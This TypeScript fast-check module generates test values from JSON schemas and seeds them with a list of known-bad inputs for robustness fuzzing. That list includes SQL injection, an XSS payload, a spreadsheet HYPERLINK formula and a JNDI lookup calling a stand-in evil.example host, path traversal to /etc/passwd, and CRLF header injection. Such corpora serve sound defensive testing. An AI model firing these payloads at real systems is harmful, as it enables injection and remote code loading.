import fc, { type Arbitrary } from 'fast-check';

/** A JSON schema as zod prints it, as far as the contract uses it. */
export interface Schema {
  readonly type?: string | readonly string[];
  readonly enum?: readonly unknown[];
  readonly const?: unknown;
  readonly anyOf?: readonly Schema[];
  readonly oneOf?: readonly Schema[];
  readonly allOf?: readonly Schema[];
  readonly properties?: Readonly<Record<string, Schema>>;
  readonly required?: readonly string[];
  readonly items?: Schema;
  readonly format?: string;
  readonly pattern?: string;
  readonly minimum?: number;
  readonly maximum?: number;
  readonly minItems?: number;
  readonly maxItems?: number;
  readonly $ref?: string;
}

/** Amounts, days, periods and requisites are strings with a pattern: some of them pass, which is when doors begin to act. */
const KNOWN_STRINGS = [
  '100.00',
  '0.01',
  '99999999999999.99',
  '2027-03-01',
  '2027-02-29',
  '9999-12-31',
  'P1M',
  'P1D',
  'P999Y',
  '7707083893',
  'RUB',
  'chats',
  'ООО «Ромашка»',
];
/** What has broken programs before: controls, halves of pairs, directions, shells, SQL, markup, formulas, paths and headers. */
export const NASTY_STRINGS = [
  '',
  ' ',
  '\u0000',
  '\ud800',
  'a\udc00b',
  '\ufeff\u200b\u2028',
  'Z̸'.repeat(2_000),
  '\u202egnp.exe',
  'İıſK',
  '💸'.repeat(300),
  'я'.repeat(70_000),
  "'; drop table account; --",
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example")',
  '../../../../etc/passwd',
  '%2e%2e%2f',
  'a\r\nBcc: everybody@example.org',
  '${jndi:ldap://evil.example/a}',
  '__proto__',
  '1e400',
  'NaN',
  '-0',
  '00000000-0000-0000-0000-000000000000',
];

const deep = (depth: number): unknown => {
  let value: unknown = 1;
  for (let level = 0; level < depth; level += 1) value = level % 2 ? [value] : { a: value };
  return value;
};

/** Anything but what was asked for. */
const nasty: Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(...NASTY_STRINGS),
  fc.constantFrom<unknown>(
    null,
    true,
    [],
    {},
    -1,
    0,
    1.5,
    2 ** 31,
    2 ** 53,
    2 ** 63,
    1e21,
    1e308,
    -1e308,
    5e-324,
  ),
  fc.constantFrom<unknown>(
    deep(50),
    deep(2_000),
    Array.from({ length: 3_000 }, () => 1),
  ),
  fc.json().map((text) => JSON.parse(text) as unknown),
  fc.string({ unit: 'binary', maxLength: 40 }),
);

/** A value of a schema, with something else in one place of twelve; parts that may be left out are, half of the time. */
export function valueOf(schema: Schema, lookUp: (ref: string) => Schema): Arbitrary<unknown> {
  return fc.oneof({ weight: 11, arbitrary: soundOf(schema, lookUp) }, { weight: 1, arbitrary: nasty });
}

function soundOf(schema: Schema, lookUp: (ref: string) => Schema): Arbitrary<unknown> {
  if (schema.$ref) return valueOf(lookUp(schema.$ref), lookUp);
  if ('const' in schema) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const choices = schema.anyOf ?? schema.oneOf ?? schema.allOf;
  if (choices) return fc.oneof(...choices.map((choice) => valueOf(choice, lookUp)));
  const type = Array.isArray(schema.type)
    ? (schema.type as string[])[0]
    : (schema.type as string | undefined);
  if (type === 'object') return objectOf(schema, lookUp);
  if (type === 'array')
    return fc.array(valueOf(schema.items ?? {}, lookUp), { minLength: schema.minItems ?? 0, maxLength: 3 });
  if (type === 'boolean') return fc.boolean();
  if (type === 'null') return fc.constant(null);
  if (type === 'integer' || type === 'number') return numberOf(schema);
  return stringOf(schema);
}

function objectOf({ properties = {}, required = [] }: Schema, lookUp: (ref: string) => Schema) {
  const parts = Object.fromEntries(
    Object.entries(properties).map(([name, part]) => [name, valueOf(part, lookUp)]),
  );
  return fc.record(parts, { requiredKeys: required.filter((name) => name in parts) });
}

const numberOf = ({ minimum = -10, maximum = 1_000 }: Schema): Arbitrary<number> =>
  fc.oneof(
    fc.constantFrom(minimum, maximum, minimum - 1, maximum + 1, 1),
    fc.integer({ min: Math.max(minimum, -1_000), max: Math.max(minimum, Math.min(maximum, 1_000)) }),
  );

function stringOf({ format, pattern }: Schema): Arbitrary<string> {
  if (format === 'uuid') return fc.uuid();
  if (format === 'date-time' || pattern?.includes('T')) return fc.constantFrom('2027-03-01T12:00:00.000Z');
  if (format === 'uri') return fc.constantFrom('https://example.org/a', 'http://127.0.0.1:1/', 'file:///etc');
  if (format === 'email') return fc.constantFrom('a@example.org', 'я@пример.рф');
  return fc.oneof(fc.constantFrom(...KNOWN_STRINGS), fc.string({ maxLength: 30 }));
}
